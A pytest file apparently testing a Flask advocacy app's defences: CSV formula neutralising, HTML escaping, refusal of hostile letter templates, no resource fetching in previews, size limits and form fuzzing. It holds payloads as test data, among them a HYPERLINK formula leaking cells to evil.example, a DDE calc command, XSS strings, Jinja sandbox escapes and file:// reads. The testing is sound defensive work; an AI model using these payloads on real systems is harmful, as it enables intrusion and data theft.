"""Hostile input through the pages people use: formulas in every CSV export, HTML in names that come from
outside (cities, campaigns, bill titles) on staff pages, feeds and the API, hostile letter templates through the
web editor and previews, oversized bodies, uploads and CSV files, and fuzzed public forms: never a 500.

(The letters sandbox, the citation parser, signer free text and the API have their own hostile tests:
test_letters_sandbox.py, test_citations.py, test_endorsements_rules.py, test_api_schemathesis.py.)
"""

from __future__ import annotations

import csv
import gc
import io
import zipfile

import pytest
from flask import Flask
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from advocacy.extensions import db
from tests.conftest import csrf_token, submit
from tests.factories import make_account
from tests.letters_fixtures import run_batch

SLUG = "city-state-diplomacy"
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1")  # fmt: skip
SCRIPT = "<script>alert('x')</script>"
IMG = '<img src=x onerror="alert(1)">'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str, what: str) -> None:
    bad = [cell for cell in _cells(text) if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not bad, f"{what}: cells a spreadsheet would run: {bad}"


@pytest.fixture
def hostile_names(app: Flask, demo) -> dict:
    """Formula and markup payloads in what outsiders control: signer fields, city, member and bill names."""
    from advocacy.models import Campaign, City, Endorsement, Member

    with app.app_context():
        campaign = db.session.scalar(select(Campaign).where(Campaign.slug == SLUG))
        endorsements = db.session.scalars(
            select(Endorsement).where(Endorsement.campaign_id == campaign.id, Endorsement.status == "verified")
        ).all()
        for endorsement, payload in zip(endorsements, FORMULAS, strict=False):
            endorsement.signer_name = payload
            endorsement.signer_title = payload
            endorsement.statement = payload
            endorsement.city.name = payload
        member = db.session.get(Member, "L000582")
        member.first_name, member.last_name = FORMULAS[0], FORMULAS[3]
        member.official_full_name = FORMULAS[0]
        member.phone, member.office = FORMULAS[1], FORMULAS[4]
        bill = campaign.current_bill
        bill.title = bill.short_title = SCRIPT
        campaign.name = IMG + " campaign"
        db.session.scalar(select(City).where(City.name == "Chicago")).name = SCRIPT
        db.session.commit()
        return {"bill": (bill.congress, bill.bill_type, bill.number), "campaign_id": campaign.id}


def test_every_csv_export_neutralises_formulas(
    letters_app: Flask, hostile_names, client, login_as, make_letter_template
):
    """Public endorsements CSV, targets CSV and the letters manifest never start a cell with = + - @ tab or CR."""
    public = client.get(f"/c/{SLUG}/endorsements.csv").get_data(as_text=True)
    _assert_no_formula(public, "endorsements.csv")
    assert "'=HYPERLINK(" in public  # the text is kept, only defused
    login_as("viewer")
    targets = client.get(f"/campaigns/{SLUG}/targets.csv").get_data(as_text=True)
    _assert_no_formula(targets, "targets.csv")
    batch_id = run_batch(letters_app, make_letter_template(slug="csv", name="CSV"), "member:L000582")
    response = client.get(f"/letters/batches/{batch_id}/zip")
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        manifest = archive.read("manifest.csv").decode()
    response.close()
    _assert_no_formula(manifest, "manifest.csv")
    assert "HYPERLINK" in manifest


def test_markup_in_outside_names_is_escaped_on_pages_feeds_and_api(app: Flask, hostile_names, client, login_as):
    """Bill titles, campaign and city names with HTML come out as text on staff and public pages, feeds and JSON."""
    congress, bill_type, number = hostile_names["bill"]
    login_as("viewer")
    pages = [
        "/dashboard",
        "/bills/",
        f"/bills/{congress}/{bill_type}/{number}",
        "/campaigns/",
        f"/campaigns/{SLUG}",
        f"/campaigns/{SLUG}/targets",
        "/cities/",
        "/members/L000582",
        f"/c/{SLUG}",
        f"/c/{SLUG}/widget",
        "/feeds/bills.atom",
        f"/feeds/campaigns/{SLUG}.atom",
    ]
    for page in pages:
        response = client.get(page)
        body = response.get_data(as_text=True)
        assert response.status_code == 200, page
        assert SCRIPT not in body and "<img src=x" not in body, page
    for url in (
        f"/api/v1/bills/{congress}/{bill_type}/{number}",
        f"/api/v1/campaigns/{SLUG}",
        f"/c/{SLUG}/endorsements.json",
    ):
        response = client.get(url)
        assert response.status_code == 200 and response.mimetype == "application/json", url
        assert response.headers.get("X-Content-Type-Options") == "nosniff", url


# --------------------------------------------------------------------------------------------- letters editor

TEMPLATE = {
    "name": "Hostile",
    "slug": "hostile",
    "re_line": "",
    "body_format": "markdown",
    "closing": "Sincerely,",
    "signature_block": "",
    "letterhead_name": "",
    "letterhead_address": "",
}


@pytest.mark.parametrize(
    "body",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ campaign.__init__.__globals__ }}",
        "{% for i in range(10**9) %}{% for j in range(10**9) %}x{% endfor %}{% endfor %}",
        "{{ 'x' * 10**10 }}",
        "{% set ns = namespace() %}{{ ns.__class__.__base__.__subclasses__() }}",
    ],
)
def test_hostile_template_through_the_editor_is_refused_with_the_text_kept(letters_app, client, login_as, body):
    """Sandbox escapes and resource bombs typed into the editor get a clear error; the text stays; nothing saved."""
    from advocacy.models import LetterTemplate

    login_as("advocate")
    response = submit(client, "/letters/templates/new", dict(TEMPLATE, body=body))
    page = response.get_data(as_text=True)
    assert response.status_code in (400, 422), page[:500]
    assert "body" in page.lower() and "Traceback" not in page
    with letters_app.app_context():
        assert db.session.scalar(select(LetterTemplate).where(LetterTemplate.slug == "hostile")) is None


def test_resources_in_a_template_are_not_fetched_in_previews(letters_app, demo, client, login_as, tmp_path):
    """file://, http://, data: and absolute-path images in a saved template: previews render, fetch nothing."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    body = (
        f"![a](file://{secret})\n\n![b](http://127.0.0.1:9/x.png)\n\n![c]({secret})\n\n"
        "![d](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)\n\n"
        f'<link rel="stylesheet" href="file://{secret}">\n\nDear friends,'
    )
    login_as("advocate")
    response = submit(client, "/letters/templates/new", dict(TEMPLATE, body=body))
    assert response.status_code == 302, response.get_data(as_text=True)[:1000]
    template_url = response.headers["Location"]
    html = client.get(template_url + "/preview")
    assert html.status_code == 200
    assert "default-src 'none'" in html.headers["Content-Security-Policy"]
    assert "TOP-SECRET-CONTENT" not in html.get_data(as_text=True)
    pdf = client.get(template_url + "/preview?format=pdf")
    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"
    assert b"TOP-SECRET-CONTENT" not in pdf.data


# --------------------------------------------------------------------------------------------- sizes


def test_oversized_bodies_get_a_413_page_not_an_error(app: Flask, client):
    """A body over MAX_CONTENT_LENGTH gets the friendly 413 page, not an error or a hang."""
    big = "x" * (app.config["MAX_CONTENT_LENGTH"] + 1)
    response = client.post("/login", data={"email": big, "password": "x"})
    assert response.status_code == 413
    assert "larger than this site accepts" in response.get_data(as_text=True)
    response.close()


# The test client spools a request body this big to a temporary file that it leaves to the garbage collector.
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_oversized_logo_and_csv_uploads_are_refused_clearly(letters_app, demo, client, login_as):
    """A logo over 512 KB and an invitation CSV over 1 MiB or 2,000 rows each get a message; nothing is made."""
    from advocacy.models import Invitation, LetterTemplate

    login_as("advocate")
    logo = b"\x89PNG\r\n\x1a\n" + b"\0" * (600 * 1024)
    response = submit(
        client, "/letters/templates/new", dict(TEMPLATE, body="Hello.", logo=(io.BytesIO(logo), "logo.png"))
    )
    assert response.status_code in (400, 422) and "larger than 512 KB" in response.get_data(as_text=True)
    response.close()
    url = f"/endorsements/campaign/{SLUG}/invite/bulk"
    form_url = f"/endorsements/campaign/{SLUG}/invitations"
    huge = "city,state,email\n" + "Austin,TX,a@austintexas.gov\n" * 40_000
    response = submit(client, url, {"file": (io.BytesIO(huge.encode()), "big.csv")}, form_url=form_url)
    assert "larger than 1 MiB" in response.get_data(as_text=True)
    response.close()
    many = "city,state,email\n" + "Nowhere,TX,a@example.org\n" * 2_100
    response = submit(client, url, {"file": (io.BytesIO(many.encode()), "many.csv")}, form_url=form_url)
    assert "at most 2000 rows" in response.get_data(as_text=True)
    assert response.status_code < 500
    response.close()
    with letters_app.app_context():
        assert db.session.scalar(select(Invitation).limit(1)) is None
        assert db.session.scalar(select(LetterTemplate).where(LetterTemplate.slug == "hostile")) is None
    gc.collect()  # let the spooled request bodies go here, under this test's warning filter


# --------------------------------------------------------------------------------------------- fuzzing

TEXT = st.one_of(
    st.text(max_size=300),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=20).map(lambda s: s * 500),
    st.sampled_from(["\x00", "a\x00b", "😀" * 300, "\u202e", "' OR 1=1 --", "{{ 7*7 }}", SCRIPT, "=1+1"]),
)
FUZZ = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@pytest.fixture
def fuzz_world(app: Flask, demo, invite_city, monkeypatch) -> dict:
    """An open campaign, a signing link, confirm/withdraw links, and a client with a CSRF token."""
    from advocacy.alerts.services import unsubscribe_token
    from advocacy.models import Campaign

    monkeypatch.setitem(app.config, "PUBLIC_POST_RATE_LIMIT", "100000 per hour")
    with app.app_context():
        db.session.scalar(select(Campaign).where(Campaign.slug == SLUG)).allow_open_signon = True
        user = make_account("viewer", "fuzz@example.org")
        db.session.commit()
        unsub = unsubscribe_token(user.id)
    client = app.test_client()
    return {"client": client, "csrf": csrf_token(client, "/login"), "sign": invite_city(), "unsub": unsub}


def _ok(response, what: str) -> None:
    assert response.status_code < 500, f"{what}: {response.status_code}"
    response.close()


@FUZZ
@given(name=TEXT, title=TEXT, email=TEXT, phone=TEXT, statement=TEXT, city=TEXT, signature=TEXT)
def test_fuzzed_signing_forms_never_fail(fuzz_world, name, title, email, phone, statement, city, signature):
    """Any text in any field of the invited and open signing forms gives a page or a redirect, never a 500."""
    client = fuzz_world["client"]
    data = {
        "csrf_token": fuzz_world["csrf"],
        "signer_name": name,
        "signer_title": title,
        "signer_email": email,
        "signer_phone": phone,
        "statement": statement,
        "attestation": "y",
        "signature": signature,
        "city": city,
    }
    _ok(client.post(f"/c/{SLUG}/sign", data=data), "open sign-on")
    _ok(client.post(fuzz_world["sign"], data=data), "invited signing")


@FUZZ
@given(token=TEXT, reason=TEXT, email=TEXT, password=TEXT)
def test_fuzzed_links_codes_and_login_never_fail(app: Flask, fuzz_world, token, reason, email, password):
    """Arbitrary confirm/withdraw/unsubscribe tokens, verification codes and log-in fields: never a 500."""
    from advocacy.extensions import limiter

    client = fuzz_world["client"]
    path = token.replace("/", "").replace("?", "").replace("#", "") or "x"
    csrf = fuzz_world["csrf"]
    _ok(client.get(f"/confirm/{path}"), "confirm GET")
    _ok(client.post(f"/confirm/{path}", data={"csrf_token": csrf}), "confirm POST")
    _ok(client.post(f"/withdraw/{path}", data={"csrf_token": csrf, "reason": reason}), "withdraw POST")
    _ok(client.get(f"/verify/{path}"), "verify")
    _ok(client.get(f"/verify/{path}/receipt.pdf"), "verify receipt")
    _ok(client.get(f"/alerts/unsubscribe/{path}"), "unsubscribe GET")
    _ok(client.post(f"/alerts/unsubscribe/{fuzz_world['unsub']}{path}"), "unsubscribe POST")
    with app.app_context():
        limiter.reset()  # the log-in limit (10 a minute) would otherwise answer 429 to every later example
    _ok(client.post("/login", data={"csrf_token": csrf, "email": email, "password": password}), "login")
